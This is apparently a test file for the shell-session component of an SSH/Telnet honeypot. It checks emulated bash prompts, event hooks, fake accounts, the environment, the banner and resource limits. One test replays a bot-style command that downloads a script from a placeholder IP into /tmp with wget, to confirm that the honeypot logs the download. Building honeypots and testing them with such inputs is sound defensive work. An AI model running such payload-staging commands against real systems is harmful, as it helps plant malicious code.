/** The session API the SSH/Telnet services drive: prompt, execute, hooks, exit, accounts, banner. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { shell } from './session-helper.js';

describe('shell session', () => {
  it('prompts like bash for root and users, with ~ and the working directory', () => {
    const root = shell();
    assert.equal(root.session.prompt(), 'root@web-07:~# ');
    root.run('cd /var/log');
    assert.equal(root.session.prompt(), 'root@web-07:/var/log# ');
    const user = shell({ user: 'mkowalski' });
    user.run('mkdir -p ~/src; cd ~/src');
    assert.equal(user.session.prompt(), 'mkowalski@web-07:~/src$ ');
  });

  it('reports input, commands (known or not), downloads, file writes and exit to the hooks', () => {
    const events: string[] = [];
    const s = shell({
      hooks: {
        onInput: (line) => events.push(`input ${line}`),
        onCommand: (cmd, info) => events.push(`command ${cmd} ${info.known}`),
        onDownload: (url, info) => events.push(`download ${url} ${info.tool} ${info.savedAs ?? '-'}`),
        onFileWrite: (path, bytes) => events.push(`write ${path} ${bytes}`),
        onExit: (info) => events.push(`exit ${info.status} ${info.reason}`),
      },
    });
    s.run('cd /tmp; wget -q http://198.51.100.7/a.sh; nosuch; echo hi > f');
    const r = s.session.execute('exit 7');
    assert.deepEqual(r, { output: 'logout\n', exit: true, status: 7 });
    assert.deepEqual(events.slice(0, 4), [
      'input cd /tmp; wget -q http://198.51.100.7/a.sh; nosuch; echo hi > f',
      'command cd /tmp true',
      'command wget -q http://198.51.100.7/a.sh true',
      'download http://198.51.100.7/a.sh wget /tmp/a.sh',
    ]);
    assert.match(events[4]!, /^write \/tmp\/a\.sh \d+$/);
    assert.deepEqual(events.slice(5), ['command nosuch false', 'command echo hi true', 'write /tmp/f 3', 'input exit 7', 'command exit 7 true', 'exit 7 exit']);
    assert.equal(s.session.closed, true);
    assert.deepEqual(s.session.execute('ls'), { output: '', exit: true, status: 7 });
  });

  it('a throwing hook never breaks the session', () => {
    const s = shell({ hooks: { onCommand: () => { throw new Error('sink down'); } } });
    assert.equal(s.run('echo still here'), 'still here\n');
  });

  it('exit leaves a nested su/sh before closing, and reboot ends the session', () => {
    const s = shell();
    s.run('su deploy');
    assert.equal(s.run('whoami'), 'deploy\n');
    assert.deepEqual(s.session.execute('exit'), { output: 'exit\n', exit: false, status: 0 });
    assert.equal(s.run('whoami'), 'root\n');
    // `sh` (what bots type after logging in) is dash: its own prompt, $0 = sh, no `enable`, and exit comes back.
    s.run('sh');
    assert.equal(s.session.prompt(), '# ');
    assert.equal(s.run('echo $0'), 'sh\n');
    assert.match(s.run('enable'), /^sh: 1: enable: not found\n$/);
    assert.deepEqual(s.session.execute('exit'), { output: '', exit: false, status: 127 });
    assert.match(s.session.prompt(), /^root@.+:~# $/);
    assert.equal(s.run('echo $0'), '-bash\n');
    let reason = '';
    const r = shell({ hooks: { onExit: (i) => (reason = i.reason) } });
    assert.equal(r.session.execute('reboot').exit, true);
    assert.equal(reason, 'reboot');
  });

  it('gives an unknown login name its own account in this session only', () => {
    const s = shell({ user: 'admin' });
    assert.equal(s.run('id'), 'uid=1002(admin) gid=1002(admin) groups=1002(admin)\n');
    assert.equal(s.run('pwd; tail -1 /etc/passwd'), '/home/admin\nadmin:x:1002:1002:,,,:/home/admin:/bin/bash\n');
    assert.equal(shell().run('grep -c admin: /etc/passwd'), '0\n');
  });

  it('keeps history (the account\'s previous history first) and exposes the environment', () => {
    const s = shell();
    const before = s.session.history.length;
    s.run('echo one');
    s.run('');
    assert.equal(s.session.history.length, before + 1);
    assert.equal(s.session.history.at(-1), 'echo one');
    const env = s.session.env();
    assert.equal(env.HOME, '/root');
    assert.equal(env.SSH_CONNECTION, '203.0.113.9 51234 10.20.30.40 22');
    assert.equal(env.PATH, '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin');
  });

  it('telnet sessions show the telnet login chain', () => {
    const s = shell({ protocol: 'telnet' });
    assert.match(s.run('ps -ef'), /in\.telnetd: 203\.0\.113\.9[\s\S]*\/bin\/login -h 203\.0\.113\.9 -p/);
    assert.equal(s.session.env().SSH_CONNECTION, undefined);
  });

  it('prints the login banner of the persona', () => {
    const s = shell();
    assert.match(s.session.banner(), /^Linux web-07 6\.1\.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6\.1\.112-1 \(2024-09-30\) x86_64\n\nThe programs included with the Debian GNU\/Linux system are free software;[\s\S]*\nLast login: \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d \d{4} from 10\.20\.30\.1\n$/);
  });

  it('bounds input length, output size and runaway recursion', () => {
    const s = shell({ limits: { maxInputBytes: 1024, maxOutputBytes: 4096 } });
    assert.equal(s.run(`echo ${'x'.repeat(2000)}`), 'bash: input line too long\n');
    assert.equal(s.run('cat /proc/cpuinfo /proc/cpuinfo').length, 4096);
    s.run("alias a='b'\nalias b='a'");
    assert.equal(s.run('a'), 'bash: a: command not found\n');
    s.run('echo "sh /tmp/r.sh" > /tmp/r.sh');
    assert.match(s.run('sh /tmp/r.sh'), /bash: maximum nesting level exceeded\n$/);
    assert.equal(s.run('echo alive'), 'alive\n');
  });
});
